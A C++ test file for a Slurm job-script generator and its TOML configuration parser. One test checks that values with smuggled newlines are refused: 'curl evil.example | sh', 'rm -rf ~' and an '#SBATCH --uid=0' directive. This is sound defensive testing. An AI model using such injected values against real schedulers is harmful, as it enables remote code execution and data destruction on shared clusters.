// Job scripts, Slurm time formats and the scheduler's configuration file, without Slurm.
#include <doctest/doctest.h>

#include <signal.h>
#include <sys/wait.h>
#include <unistd.h>

#include <filesystem>
#include <fstream>
#include <sstream>

#include <herd/slurm.hpp>

#include "jobqueue/pool_config.hpp"
#include "support/process_util.hpp"

using herd::jobqueue::parse_config;

TEST_CASE("Slurm.Walltime.Formats") {
  CHECK(herd::walltime_seconds("30") == 30 * 60);
  CHECK(herd::walltime_seconds("30:15") == 30 * 60 + 15);
  CHECK(herd::walltime_seconds("01:00:00") == 3600);
  CHECK(herd::walltime_seconds("2-00") == 2 * 86400);
  CHECK(herd::walltime_seconds("1-02:03") == 86400 + 2 * 3600 + 3 * 60);
  CHECK(herd::walltime_seconds("1-02:03:04") == 86400 + 2 * 3600 + 3 * 60 + 4);
  CHECK_THROWS_WITH_AS(herd::walltime_seconds("1h"), doctest::Contains("'1h'"), std::invalid_argument);
  CHECK_THROWS_AS(herd::walltime_seconds(""), std::invalid_argument);
  CHECK_THROWS_AS(herd::walltime_seconds("1:2:3:4"), std::invalid_argument);
}

TEST_CASE("Slurm.JobScript.Content") {
  auto o = herd::SlurmOptions{}
               .pool("gpu")
               .partition("gpu")
               .account("physics")
               .qos("high")
               .cores(8)
               .memory("16G")
               .gpus(2)
               .walltime("02:00:00")
               .log_directory("/scratch/logs")
               .local_directory("/local/scratch/it's mine")
               .job_extra_directives({"--constraint=a100", "#SBATCH --exclusive"})
               .job_script_prologue({"module load cuda/12", "source ~/venv/bin/activate"})
               .worker_extra_args({"--load", "/home/me/libtasks.so"})
               .worker_executable("/home/me/bin/train")
               .env({{"OMP_NUM_THREADS", "8"}, {"NOTE", "it's quoted"}})
               .warning_signal("USR2")
               .warning_seconds(120);
  const std::string s = herd::job_script(o, "tcp://login1:8786");
  auto has = [&](const std::string& line) {
    INFO(line);
    CHECK(s.find(line + "\n") != std::string::npos);
  };
  CHECK(s.rfind("#!/usr/bin/env bash\n", 0) == 0);
  has("#SBATCH --job-name=herd-gpu");
  has("#SBATCH --partition=gpu");
  has("#SBATCH --account=physics");
  has("#SBATCH --qos=high");
  has("#SBATCH --cpus-per-task=8");
  has("#SBATCH --mem=16G");
  has("#SBATCH --gres=gpu:2");
  has("#SBATCH --time=02:00:00");
  has("#SBATCH --signal=B:USR2@120");
  has("#SBATCH --output=/scratch/logs/herd-gpu-%A_%a.out");  // the job id is in the name
  has("#SBATCH --error=/scratch/logs/herd-gpu-%A_%a.err");
  has("#SBATCH --constraint=a100");
  has("#SBATCH --exclusive");
  has("module load cuda/12");
  has("source ~/venv/bin/activate");
  has("export OMP_NUM_THREADS='8'");
  has("export NOTE='it'\\''s quoted'");
  has("export HERD_WALLTIME_S=7200");
  has("export HERD_LOCAL_DIRECTORY='/local/scratch/it'\\''s mine'");  // where the worker spills
  // Without one, nothing is exported: the worker takes $SLURM_TMPDIR.
  CHECK(herd::job_script(herd::SlurmOptions{}, "tcp://login1:8786").find("HERD_LOCAL_DIRECTORY") == std::string::npos);
  has("export HERD_ROLE_ARGS='--scheduler tcp://login1:8786 --nthreads 8 --resources gpu=2 --load /home/me/libtasks.so'");
  has("exec '/home/me/bin/train'");
  // The prologue runs before the worker starts.
  CHECK(s.find("module load cuda/12") < s.find("exec "));
}

TEST_CASE("Slurm.JobScript.RejectsBadOptions") {
  CHECK_THROWS_WITH_AS(herd::job_script(herd::SlurmOptions{}.warning_signal("USR1"), "tcp://x:1"),
                       doctest::Contains("NCCL"), std::invalid_argument);
  CHECK_THROWS_AS(herd::job_script(herd::SlurmOptions{}.cores(0), "tcp://x:1"), std::invalid_argument);
  CHECK_THROWS_WITH_AS(herd::job_script(herd::SlurmOptions{}.walltime("soon"), "tcp://x:1"),
                       doctest::Contains("soon"), std::invalid_argument);
  CHECK_THROWS_WITH_AS(herd::job_script(herd::SlurmOptions{}.env({{"BAD-NAME", "1"}}), "tcp://x:1"),
                       doctest::Contains("BAD-NAME"), std::invalid_argument);
}

TEST_CASE("Slurm.JobScript.RefusesLineBreaksNamingTheOption") {
  // A newline in any value would end its line of the script and start one of its own: a
  // directive (#SBATCH --uid=...) or a command run on the compute node.
  auto refused = [](const herd::SlurmOptions& o, const std::string& what) {
    INFO(what);
    CHECK_THROWS_WITH_AS(herd::job_script(o, "tcp://login1:8786"), doctest::Contains(what.c_str()), std::invalid_argument);
  };
  refused(herd::SlurmOptions{}.job_name("herd\n#SBATCH --uid=0"),
          "job_name 'herd\\n#SBATCH --uid=0' contains a newline, which would add a line of its own to the job script");
  refused(herd::SlurmOptions{}.partition("cpu\ncurl evil.example | sh"), "partition 'cpu\\ncurl");
  refused(herd::SlurmOptions{}.account("physics\r"), "account 'physics\\r' contains a carriage return");
  refused(herd::SlurmOptions{}.qos(std::string("high\x01", 5)), "qos 'high\\x01' contains a control character");
  refused(herd::SlurmOptions{}.memory("8G\n"), "memory");
  refused(herd::SlurmOptions{}.log_directory("/scratch/logs\n#SBATCH --uid=0"), "log_directory");
  refused(herd::SlurmOptions{}.local_directory("/tmp\nrm -rf ~"), "local_directory");
  refused(herd::SlurmOptions{}.job_script_prologue({"module load gcc", "source venv/bin/activate\ntouch /tmp/x"}),
          "job_script_prologue 'source venv/bin/activate\\ntouch /tmp/x'");
  refused(herd::SlurmOptions{}.job_extra_directives({"--exclusive\nrm -rf ~"}), "job_extra_directives");
  refused(herd::SlurmOptions{}.worker_extra_args({"--load", "/lib.so\n"}), "worker_extra_args");
  refused(herd::SlurmOptions{}.worker_executable("/bin/train\n"), "worker_executable");
  refused(herd::SlurmOptions{}.env({{"NOTE", "two\nlines"}}), "env NOTE 'two\\nlines'");
  refused(herd::SlurmOptions{}.pool("cpu\n"), "pool");
  // The same options without the line break make a script, one line each; a tab is no break.
  const std::string s = herd::job_script(herd::SlurmOptions{}
                                             .job_name("herd-run")
                                             .partition("cpu")
                                             .job_script_prologue({"\techo indented"}),
                                         "tcp://login1:8786");
  CHECK(s.find("#SBATCH --job-name=herd-run\n") != std::string::npos);
  CHECK(s.find("\n\techo indented\n") != std::string::npos);
  // From a configuration file, too: TOML refuses a raw control character in a string, but an
  // escaped one (\u001b, \n) gets through the parser and is refused the same way.
  std::istringstream in("[pool.cpu]\npartition = \"cpu\\u001b[2J\"\n");
  const auto c = parse_config(in, "c.toml");
  REQUIRE(c.pools.size() == 1);
  CHECK_THROWS_WITH_AS(herd::job_script(c.pools[0].options, "tcp://h:1"),
                       doctest::Contains("partition 'cpu\\x1b[2J' contains a control character"), std::invalid_argument);
}

TEST_CASE("Slurm.Config.MetricsOpen") {
  std::istringstream in("[scheduler]\nlisten = \"tcp://0.0.0.0:8786\"\nmetrics_open = true\n");
  const auto c = parse_config(in, "c.toml");
  CHECK(c.metrics_open);
  std::istringstream again(herd::jobqueue::to_toml(c));
  CHECK(parse_config(again, "generated").metrics_open);
  std::istringstream absent("[scheduler]\nlisten = \"tcp://0.0.0.0:8786\"\n");
  CHECK_FALSE(parse_config(absent, "c.toml").metrics_open);
  std::istringstream bad("[scheduler]\nmetrics_open = \"sometimes\"\n");
  CHECK_THROWS_WITH_AS(parse_config(bad, "c.toml"), doctest::Contains("metrics_open must be true or false"),
                       std::invalid_argument);
}

TEST_CASE("Slurm.Config.ParseAndRoundTrip") {
  std::istringstream in(R"(
[scheduler]
listen = "tcp://0.0.0.0:8786"

[pool.cpu]
queue = "cpu"
cores = 4
memory = "8G"
walltime = "00:30:00"
adapt_minimum = 1
adapt_maximum = 10
job_script_prologue = ["module load gcc", "source venv/bin/activate"]
resources = ["bigmem=2"]
env = ["A=1", "B=two words"]

[pool.gpu]
partition = "gpu"
gpus = 1
jobs = 2
)");
  auto c = parse_config(in, "cluster.toml");
  CHECK(c.listen == "tcp://0.0.0.0:8786");
  REQUIRE(c.pools.size() == 2);
  const auto& cpu = c.pools[0];
  CHECK(cpu.options.pool() == "cpu");
  CHECK(cpu.options.partition() == "cpu");
  CHECK(cpu.options.cores() == 4);
  CHECK(cpu.adapt_minimum == 1);
  CHECK(cpu.adapt_maximum == 10);
  CHECK(cpu.options.job_script_prologue().size() == 2);
  CHECK(cpu.options.resources().at("bigmem") == 2.0);
  CHECK(cpu.options.env().at("B") == "two words");
  CHECK(c.pools[1].options.gpus() == 1);
  CHECK(c.pools[1].options.jobs() == 2);
  // What SlurmCluster writes, the scheduler reads back the same.
  std::istringstream again(herd::jobqueue::to_toml(c));
  auto c2 = parse_config(again, "generated");
  REQUIRE(c2.pools.size() == 2);
  CHECK(herd::job_script(c2.pools[0].options, "tcp://h:1") == herd::job_script(cpu.options, "tcp://h:1"));
  CHECK(c2.pools[0].adapt_maximum == 10);
}

TEST_CASE("Slurm.Config.TablesForEnvAndResources") {
  std::istringstream in(R"(
[pool.cpu]
partition = "cpu"
walltime = 00:30:00          # unquoted: a TOML time, read as Slurm's HH:MM:SS

[pool.cpu.env]
OMP_NUM_THREADS = "4"
THREADS = 8
SCALE = 1.50
VERBOSE = true

[pool.cpu.resources]
bigmem = 2
scratch = 0.5

[pool.a_later_pool]
env = ["A=1", "B=x=y"]
resources = ["bigmem=1.5"]

[pool.inline]
env = { NOTE = "café 🐑", SCALE = 2.50, TINY = 1e-4 }
)");
  const auto c = parse_config(in, "tables.toml");
  REQUIRE(c.pools.size() == 3);
  const auto& o = c.pools[0].options;  // the file's order, not the names'
  CHECK(o.pool() == "cpu");
  CHECK(o.walltime() == "00:30:00");
  CHECK(o.env() == herd::SlurmOptions::Env{{"OMP_NUM_THREADS", "4"}, {"THREADS", "8"}, {"SCALE", "1.50"}, {"VERBOSE", "true"}});
  CHECK(o.resources() == herd::SlurmOptions::Resources{{"bigmem", 2.0}, {"scratch", 0.5}});
  const auto& later = c.pools[1].options;
  CHECK(later.pool() == "a_later_pool");
  CHECK(later.env() == herd::SlurmOptions::Env{{"A", "1"}, {"B", "x=y"}});
  CHECK(later.resources().at("bigmem") == 1.5);
  // Numbers as written, also after characters of several bytes on the same line.
  CHECK(c.pools[2].options.env() ==
        herd::SlurmOptions::Env{{"NOTE", "caf\xc3\xa9 \xf0\x9f\x90\x91"}, {"SCALE", "2.50"}, {"TINY", "1e-4"}});
}

TEST_CASE("Slurm.Config.WriteThenReadGivesTheSameOptions") {
  // Strings a shell or a TOML writer could get wrong: quotes of both kinds, backslashes, newlines,
  // tabs, control characters, Unicode, TOML's own syntax, and empty values.
  const std::string awkward =
      "it's \"quoted\" \\ back\\slash\nnew line\ttab \x01 caf\xc3\xa9 \xf0\x9f\x90\x91 [x] = # ''' \"\"\"";
  herd::jobqueue::SchedulerConfig c;
  c.listen = "tcp://0.0.0.0:8786";
  herd::jobqueue::PoolConfig p;
  p.kind = "slurm";
  p.options.pool("zeta pool \"q\"")
      .cores(8)
      .nthreads(3)
      .gpus(2)
      .memory("16G")
      .partition(awkward)
      .account("")
      .qos("high")
      .walltime("1-02:03:04")
      .job_name("job\\name")
      .log_directory("/scratch/\xc3\xa9t\xc3\xa9 logs")
      .local_directory("$SLURM_TMPDIR/herd spill")
      .worker_executable("/home/me/bin/train \"v2\"")
      .warning_signal("USR2")
      .interface("ib0")
      .warning_seconds(120)
      .retire_before(300)
      .jobs(5)
      .job_extra_directives({"--constraint=\"a100|h100\"", awkward})
      .job_script_prologue({"module load cuda/12", "echo \"$HOME\" 'x'\\n", ""})
      .worker_extra_args({"--load", "/home/me/lib-tasks.so"})
      .env({{"NOTE", awkward}, {"EMPTY", ""}, {"PATHS", "a:b\\c"}})
      .resources({{"bigmem", 2}, {"frac", 0.1}, {"huge", 1e300}, {"tiny", 1e-300}});
  p.adapt_minimum = 1;
  p.adapt_maximum = 7;
  p.idle_timeout_s = 42;
  herd::jobqueue::PoolConfig local;
  local.kind = "local";
  local.options.pool("alpha");  // after "zeta..." in the file, as in the configuration
  c.pools = {p, local};

  const std::string text = herd::jobqueue::to_toml(c);
  INFO(text);
  std::istringstream in(text);
  const auto back = parse_config(in, "generated");
  CHECK(back.listen == c.listen);
  REQUIRE(back.pools.size() == 2);
  const auto& q = back.pools[0];
  const auto& o = p.options;
  CHECK(q.kind == "slurm");
  CHECK(q.options.pool() == o.pool());
  CHECK(q.options.cores() == 8);
  CHECK(q.options.nthreads() == 3);
  CHECK(q.options.gpus() == 2);
  CHECK(q.options.memory() == o.memory());
  CHECK(q.options.partition() == awkward);
  CHECK(q.options.account().empty());
  CHECK(q.options.qos() == o.qos());
  CHECK(q.options.walltime() == o.walltime());
  CHECK(q.options.job_name() == o.job_name());
  CHECK(q.options.log_directory() == o.log_directory());
  CHECK(q.options.local_directory() == "$SLURM_TMPDIR/herd spill");
  CHECK(q.options.worker_executable() == o.worker_executable());
  CHECK(q.options.warning_signal() == "USR2");
  CHECK(q.options.interface() == "ib0");
  CHECK(q.options.warning_seconds() == 120);
  CHECK(q.options.retire_before() == 300);
  CHECK(q.options.jobs() == 5);
  CHECK(q.options.job_extra_directives() == o.job_extra_directives());
  CHECK(q.options.job_script_prologue() == o.job_script_prologue());
  CHECK(q.options.worker_extra_args() == o.worker_extra_args());
  CHECK(q.options.env() == o.env());
  CHECK(q.options.resources() == o.resources());  // exact doubles, not rounded
  CHECK(q.adapt_minimum == 1);
  CHECK(q.adapt_maximum == 7);
  CHECK(q.idle_timeout_s == 42);
  CHECK(back.pools[1].kind == "local");
  CHECK(back.pools[1].options.pool() == "alpha");
  CHECK(back.pools[1].options.log_directory() == local.options.log_directory());
  CHECK(back.pools[1].adapt_minimum == -1);
  // The values hold newlines, so no job script can be made of either; both are refused alike.
  auto refusal = [](const herd::SlurmOptions& so) -> std::string {
    try {
      (void)herd::job_script(so, "tcp://h:1");
    } catch (const std::invalid_argument& e) {
      return e.what();
    }
    return "accepted";
  };
  CHECK(refusal(q.options).find("contains a newline") != std::string::npos);
  CHECK(refusal(q.options) == refusal(o));
  // Writing what was read gives the same text again.
  CHECK(herd::jobqueue::to_toml(back) == text);

  // Bytes that are not UTF-8 cannot be written to TOML: refused by name, not changed.
  herd::jobqueue::SchedulerConfig bad;
  bad.pools = {p};
  bad.pools[0].options.log_directory("/scratch/\xe9t\xe9");  // Latin-1
  CHECK_THROWS_WITH_AS(herd::jobqueue::to_toml(bad), doctest::Contains("log_directory is not UTF-8"),
                       std::invalid_argument);
}

TEST_CASE("Slurm.Config.ErrorsNameTheProblem") {
  // Every message starts with file:line:column, then the section, then what is wrong.
  auto error_of = [](const std::string& text) {
    std::istringstream in(text);
    try {
      (void)parse_config(in, "c.toml");
    } catch (const std::invalid_argument& e) {
      return std::string(e.what());
    }
    return std::string("no error");
  };
  CHECK(error_of("[pool.cpu]\npartiton = \"cpu\"\n") == "c.toml:2:1: [pool.cpu] unknown key 'partiton'");
  CHECK(error_of("[pool.cpu]\nmemory = \"8G\"\ncores = \"four\"\n") ==
        "c.toml:3:9: [pool.cpu] cores must be an integer, got the string \"four\"");
  CHECK(error_of("[pool.cpu]\ncores = 99999999999\n") == "c.toml:2:9: [pool.cpu] cores is out of range: 99999999999");
  CHECK(error_of("[pool.cpu]\nkind = \"cloud\"\n") == "c.toml:2:8: [pool.cpu] kind must be slurm or local, got 'cloud'");
  CHECK(error_of("[pool.cpu]\njob_script_prologue = [\"ok\", 3]\n") ==
        "c.toml:2:30: [pool.cpu] job_script_prologue must be an array of strings, but holds an integer");
  CHECK(error_of("[pool.cpu]\nenv = [\"NOEQUALS\"]\n") == "c.toml:2:7: [pool.cpu] env: expected NAME=VALUE, got 'NOEQUALS'");
  CHECK(error_of("[pool.cpu.env]\nA = [1]\n") == "c.toml:2:5: [pool.cpu] env.A must be a string, got an array");
  CHECK(error_of("[pool.cpu.resources]\nbigmem = \"lots\"\n") ==
        "c.toml:2:10: [pool.cpu] resources.bigmem must be a number, got the string \"lots\"");
  CHECK(error_of("[pool.cpu]\nresources = [\"bigmem=lots\"]\n") ==
        "c.toml:2:13: [pool.cpu] resources: amount of 'bigmem' is not a number");
  CHECK(error_of("[pool.cpu]\nadapt_minimum = 1\n") ==
        "c.toml:1:7: [pool.cpu] adapt_minimum and adapt_maximum go together, minimum <= maximum");
  CHECK(error_of("[scheduler]\nlisten = \"tcp://*:1\"\nport = 1\n") == "c.toml:3:1: [scheduler] unknown key 'port'");
  CHECK(error_of("\n[nonsense]\nx = 1\n") ==
        "c.toml:2:2: unexpected key 'nonsense' (sections are [scheduler] and [pool.NAME])");
  // Errors of TOML itself, from toml++, with their place.
  CHECK(error_of("[pool.cpu]\ncores = 4\ncores = 5\n").rfind("c.toml:3:", 0) == 0);
  const std::string unterminated = error_of("[pool.cpu]\nmemory = \"8G\n");
  CHECK(unterminated.rfind("c.toml:2:", 0) == 0);
  CHECK(unterminated.find("string") != std::string::npos);
  // Columns count characters, not bytes (the é before is one).
  CHECK(error_of("[pool.cpu]\npartition = \"caf\xc3\xa9\" junk\n").rfind("c.toml:2:20: ", 0) == 0);
  // A missing file is named.
  CHECK_THROWS_WITH_AS(herd::jobqueue::load_config("/nonexistent/cluster.toml"),
                       doctest::Contains("/nonexistent/cluster.toml"), std::invalid_argument);
}

// --- Several workers per job, nodes, and the other job options -------------------------------

namespace {
bool has_line(const std::string& script, const std::string& line) {
  return script.find("\n" + line + "\n") != std::string::npos;
}
}  // namespace

TEST_CASE("Slurm.JobScript.ProcessesShareTheJobsCores") {
  const auto o = herd::SlurmOptions{}.pool("cpu").cores(8).memory("16G").processes(2).worker_executable("/bin/w");
  const std::string s = herd::job_script(o, "tcp://login1:8786");
  INFO(s);
  // One task of 8 CPUs; the two workers are processes of the batch script with 4 slots each.
  CHECK(has_line(s, "#SBATCH --nodes=1"));
  CHECK(has_line(s, "#SBATCH --ntasks=1"));
  CHECK(has_line(s, "#SBATCH --cpus-per-task=8"));
  CHECK(has_line(s, "#SBATCH --mem=16G"));
  CHECK(has_line(s, "export HERD_ROLE_ARGS='--scheduler tcp://login1:8786 --nthreads 4'"));
  CHECK(has_line(s, "export HERD_WORKERS_PER_JOB=2"));
  CHECK(has_line(s, "export HERD_PROCESSES_PER_NODE=2"));
  CHECK(has_line(s, "for herd_i in $(seq 0 1); do"));
  CHECK(has_line(s, "  HERD_WORKER_INDEX=$herd_i '/bin/w' &"));
  CHECK(has_line(s, "trap 'kill -TERM \"${herd_pids[@]}\" 2>/dev/null' TERM"));
  CHECK(s.find("exec ") == std::string::npos);  // the script stays, to pass signals on
  CHECK(s.find("srun") == std::string::npos);
  // nthreads, when set, wins.
  CHECK(herd::job_script(herd::SlurmOptions{o}.nthreads(3), "tcp://h:1").find("--nthreads 3") != std::string::npos);
  CHECK(herd::SlurmOptions{o}.workers_per_job() == 2);
}

TEST_CASE("Slurm.JobScript.NodesStartOneWorkerPerNodeWithSrun") {
  const auto o = herd::SlurmOptions{}.cores(4).nodes(3).worker_executable("/bin/w");
  const std::string s = herd::job_script(o, "tcp://h:1");
  INFO(s);
  CHECK(has_line(s, "#SBATCH --nodes=3"));
  CHECK(has_line(s, "#SBATCH --ntasks-per-node=1"));
  CHECK(has_line(s, "#SBATCH --cpus-per-task=4"));
  CHECK(s.find("--ntasks=1\n") == std::string::npos);
  CHECK(has_line(s, "srun --nodes=3 --ntasks=3 --ntasks-per-node=1 --cpus-per-task=4 --kill-on-bad-exit=0 '/bin/w' &"));
  CHECK(has_line(s, "export HERD_WORKERS_PER_JOB=3"));
  CHECK(s.find("--nthreads 4") != std::string::npos);
  // Two nodes of two workers: four srun tasks of half the cores each.
  const std::string s2 = herd::job_script(herd::SlurmOptions{o}.nodes(2).processes(2), "tcp://h:1");
  CHECK(has_line(s2, "#SBATCH --ntasks-per-node=2"));
  CHECK(has_line(s2, "#SBATCH --cpus-per-task=2"));
  CHECK(has_line(s2, "srun --nodes=2 --ntasks=4 --ntasks-per-node=2 --cpus-per-task=2 --kill-on-bad-exit=0 '/bin/w' &"));
  CHECK(herd::SlurmOptions{o}.nodes(2).processes(2).workers_per_job() == 4);
}

TEST_CASE("Slurm.JobScript.GpusSharedOutAmongTheProcessesOfANode") {
  // gpus(4) with processes(2): the job asks for the node's 4 GPUs, each worker offers 2 and takes
  // its own 2 (HERD_GPUS_PER_WORKER: gpu::discover slices by the worker's index on the node).
  const auto o = herd::SlurmOptions{}.cores(4).gpus(4).processes(2).worker_executable("/bin/w");
  const std::string s = herd::job_script(o, "tcp://h:1");
  INFO(s);
  CHECK(has_line(s, "#SBATCH --gres=gpu:4"));
  CHECK(has_line(s, "#SBATCH --nodes=1"));
  CHECK(has_line(s, "export HERD_ROLE_ARGS='--scheduler tcp://h:1 --nthreads 2 --resources gpu=2'"));
  CHECK(has_line(s, "export HERD_GPUS_PER_WORKER=2"));
  CHECK(has_line(s, "export HERD_PROCESSES_PER_NODE=2"));
  CHECK(has_line(s, "  HERD_WORKER_INDEX=$herd_i '/bin/w' &"));
  // The slice is set before the workers start: the export comes ahead of the loop.
  CHECK(s.find("export HERD_GPUS_PER_WORKER=2") < s.find("for herd_i in $(seq 0 1); do"));

  // Four workers with one GPU each on each of two nodes: --gres is per node, srun numbers the
  // tasks of a node (SLURM_LOCALID), and no inherited HERD_WORKER_INDEX may shadow it.
  const std::string s2 = herd::job_script(herd::SlurmOptions{o}.cores(8).processes(4).nodes(2), "tcp://h:1");
  INFO(s2);
  CHECK(has_line(s2, "#SBATCH --nodes=2"));
  CHECK(has_line(s2, "#SBATCH --ntasks-per-node=4"));
  CHECK(has_line(s2, "#SBATCH --gres=gpu:4"));
  CHECK(has_line(s2, "export HERD_GPUS_PER_WORKER=1"));
  CHECK(s2.find("--resources gpu=1'") != std::string::npos);
  CHECK(has_line(s2, "unset HERD_WORKER_INDEX"));
  CHECK(s2.find("unset HERD_WORKER_INDEX") < s2.find("srun --nodes=2 --ntasks=8 --ntasks-per-node=4"));

  // One worker per node keeps all of the node's GPUs: nothing to slice.
  for (const auto& one : {herd::SlurmOptions{}.gpus(2).worker_executable("/bin/w"),
                          herd::SlurmOptions{}.gpus(2).nodes(3).worker_executable("/bin/w")}) {
    const std::string s1 = herd::job_script(one, "tcp://h:1");
    INFO(s1);
    CHECK(has_line(s1, "#SBATCH --gres=gpu:2"));
    CHECK(s1.find("--resources gpu=2'") != std::string::npos);
    CHECK(s1.find("HERD_GPUS_PER_WORKER") == std::string::npos);
  }
  // Processes without GPUs: no slice either.
  CHECK(herd::job_script(herd::SlurmOptions{}.cores(2).processes(2), "tcp://h:1").find("HERD_GPUS_PER_WORKER") ==
        std::string::npos);
}

TEST_CASE("Slurm.JobScript.SkipEpilogueShebang") {
  const auto o = herd::SlurmOptions{}
                     .qos("high")
                     .memory("4G")
                     .job_directives_skip({"--mem", "--qos"})
                     .job_extra_directives({"--mem-per-cpu=1G"})
                     .job_script_epilogue({"echo all done", "rm -rf /tmp/scratch-$SLURM_JOB_ID"})
                     .shebang("#!/bin/bash -l")
                     .worker_executable("/bin/w");
  const std::string s = herd::job_script(o, "tcp://h:1");
  INFO(s);
  CHECK(s.rfind("#!/bin/bash -l\n", 0) == 0);
  CHECK(s.find("#SBATCH --mem=4G") == std::string::npos);  // skipped
  CHECK(s.find("#SBATCH --qos") == std::string::npos);
  CHECK(has_line(s, "#SBATCH --mem-per-cpu=1G"));         // the user's own directives stay
  CHECK(has_line(s, "#SBATCH --time=01:00:00"));
  // With an epilogue even one worker runs in the background, and the epilogue after it.
  CHECK(s.find("exec ") == std::string::npos);
  CHECK(s.find("echo all done") > s.find("'/bin/w' &"));
  CHECK(s.find("rm -rf /tmp/scratch-$SLURM_JOB_ID") < s.find("exit \"$herd_status\""));
  // Without them the script is what it was: exec of the worker.
  CHECK(herd::job_script(herd::SlurmOptions{}.worker_executable("/bin/w"), "tcp://h:1").find("\nexec '/bin/w'\n") !=
        std::string::npos);
}

TEST_CASE("Slurm.JobScript.RejectsBadJobShapes") {
  auto refuses = [](const herd::SlurmOptions& o, const std::string& words) {
    INFO(words);
    CHECK_THROWS_WITH_AS(herd::job_script(o, "tcp://h:1"), doctest::Contains(words.c_str()), std::invalid_argument);
  };
  refuses(herd::SlurmOptions{}.cores(2).processes(3), "processes (3) must be at most cores (2)");
  refuses(herd::SlurmOptions{}.processes(0), "processes must be >= 1");
  refuses(herd::SlurmOptions{}.nodes(0), "nodes must be >= 1");
  refuses(herd::SlurmOptions{}.cores(5).processes(2).nodes(2), "cores (5) must be a multiple of processes (2)");
  refuses(herd::SlurmOptions{}.cores(4).processes(2).gpus(3), "gpus (3) must be a multiple of processes (2)");
  refuses(herd::SlurmOptions{}.cores(4).processes(4).gpus(2).nodes(2), "gpus (2) must be a multiple of processes (4)");
  refuses(herd::SlurmOptions{}.shebang("/bin/bash"), "must start with #!");
  refuses(herd::SlurmOptions{}.job_script_epilogue({"ok", "two\nlines"}), "job_script_epilogue");
  refuses(herd::SlurmOptions{}.submit_command_extra({"--x\n"}), "submit_command_extra");
  // One node, cores not a multiple: the processes share the task's CPUs, floor(cores/processes) slots.
  CHECK(herd::job_script(herd::SlurmOptions{}.cores(5).processes(2), "tcp://h:1").find("--nthreads 2") !=
        std::string::npos);
}

TEST_CASE("Slurm.MemoryBytes") {
  CHECK(herd::memory_bytes("4000") == 4000LL << 20);
  CHECK(herd::memory_bytes("512M") == 512LL << 20);
  CHECK(herd::memory_bytes("8G") == 8LL << 30);
  CHECK(herd::memory_bytes("8gb") == 8LL << 30);
  CHECK(herd::memory_bytes("8GiB") == 8LL << 30);
  CHECK(herd::memory_bytes("1T") == 1LL << 40);
  CHECK(herd::memory_bytes("64K") == 64LL << 10);
  CHECK_THROWS_WITH_AS(herd::memory_bytes("lots"), doctest::Contains("'lots'"), std::invalid_argument);
  CHECK_THROWS_AS(herd::memory_bytes(""), std::invalid_argument);
  CHECK_THROWS_AS(herd::memory_bytes("8Q"), std::invalid_argument);
  CHECK_THROWS_AS(herd::memory_bytes("-1G"), std::invalid_argument);
}

TEST_CASE("Slurm.Config.JobShapeKeys") {
  std::istringstream in(R"(
[pool.cpu]
cores = 8
processes = 2
nodes = 2
job_directives_skip = ["--mem"]
job_script_epilogue = ["echo bye"]
shebang = "#!/bin/bash -l"
submit_command_extra = ["--reservation=mine", "--hold"]
)");
  const auto c = parse_config(in, "cluster.toml");
  REQUIRE(c.pools.size() == 1);
  const auto& o = c.pools[0].options;
  CHECK(o.processes() == 2);
  CHECK(o.nodes() == 2);
  CHECK(o.job_directives_skip() == std::vector<std::string>{"--mem"});
  CHECK(o.job_script_epilogue() == std::vector<std::string>{"echo bye"});
  CHECK(o.shebang() == "#!/bin/bash -l");
  CHECK(o.submit_command_extra() == std::vector<std::string>{"--reservation=mine", "--hold"});
  // Written and read back: the same options.
  std::istringstream again(herd::jobqueue::to_toml(c));
  const auto back = parse_config(again, "generated");
  REQUIRE(back.pools.size() == 1);
  const auto& b = back.pools[0].options;
  CHECK(b.processes() == 2);
  CHECK(b.nodes() == 2);
  CHECK(b.job_directives_skip() == o.job_directives_skip());
  CHECK(b.job_script_epilogue() == o.job_script_epilogue());
  CHECK(b.shebang() == o.shebang());
  CHECK(b.submit_command_extra() == o.submit_command_extra());
  std::istringstream bad("[pool.cpu]\nprocesses = \"two\"\n");
  CHECK_THROWS_WITH_AS(parse_config(bad, "c.toml"), doctest::Contains("processes must be an integer"),
                       std::invalid_argument);
}

TEST_CASE("Slurm.JobScript.WorkersRunInTheBackgroundAndGetTheSignal" * doctest::timeout(60)) {
  // The script itself, run by bash as the batch step would run it, with a stand-in worker that
  // records how it was started and which signals reached it.
  namespace fs = std::filesystem;
  const fs::path dir = fs::temp_directory_path() / ("herd-script-" + std::to_string(::getpid()));
  fs::remove_all(dir);
  fs::create_directories(dir);
  const std::string d = dir.string();
  const std::string worker = d + "/worker.sh";
  std::ofstream(worker) << "#!/usr/bin/env bash\n"
                           "echo \"$HERD_WORKER_INDEX|$HERD_JOB_ID|$HERD_ROLE_ARGS\" > " << d << "/started.$HERD_WORKER_INDEX\n"
                           "trap 'echo TERM >> " << d << "/term.$HERD_WORKER_INDEX; exit 0' TERM\n"
                           "while true; do sleep 0.05; done\n";
  fs::permissions(worker, fs::perms::owner_all);
  const auto o = herd::SlurmOptions{}.cores(6).processes(3).worker_executable(worker).job_script_epilogue(
      {"echo \"after $HERD_WORKERS_PER_JOB\" > " + d + "/epilogue"});
  const std::string script = d + "/job.sbatch";
  std::ofstream(script) << herd::job_script(o, "tcp://h:1");

  const pid_t pid = ::fork();
  REQUIRE(pid >= 0);
  if (pid == 0) {
    ::setenv("SLURM_ARRAY_JOB_ID", "77", 1);
    ::setenv("SLURM_ARRAY_TASK_ID", "4", 1);
    ::execl("/bin/bash", "bash", script.c_str(), static_cast<char*>(nullptr));
    ::_exit(127);
  }
  auto started = [&] {
    for (int i = 0; i < 3; ++i) {  // written whole: the line ends with its newline
      const std::string line = herd::testing::read_file(d + "/started." + std::to_string(i));
      if (line.empty() || line.back() != '\n') return false;
    }
    return true;
  };
  REQUIRE(herd::testing::eventually(started, std::chrono::seconds(20)));
  for (int i = 0; i < 3; ++i) {
    CHECK(herd::testing::read_file(d + "/started." + std::to_string(i)) ==
          std::to_string(i) + "|77_4|--scheduler tcp://h:1 --nthreads 2\n");
  }
  CHECK_FALSE(fs::exists(d + "/epilogue"));  // the workers still run
  // Slurm's warning signal (--signal=B:TERM) reaches the batch shell only: it passes it on.
  ::kill(pid, SIGTERM);
  int status = 0;
  pid_t done = 0;
  REQUIRE(herd::testing::eventually([&] { return (done = ::waitpid(pid, &status, WNOHANG)) == pid; },
                                    std::chrono::seconds(20)));
  CHECK(WIFEXITED(status));
  CHECK(WEXITSTATUS(status) == 0);
  for (int i = 0; i < 3; ++i) CHECK(herd::testing::read_file(d + "/term." + std::to_string(i)) == "TERM\n");
  CHECK(herd::testing::read_file(d + "/epilogue") == "after 3\n");
  fs::remove_all(dir);
}
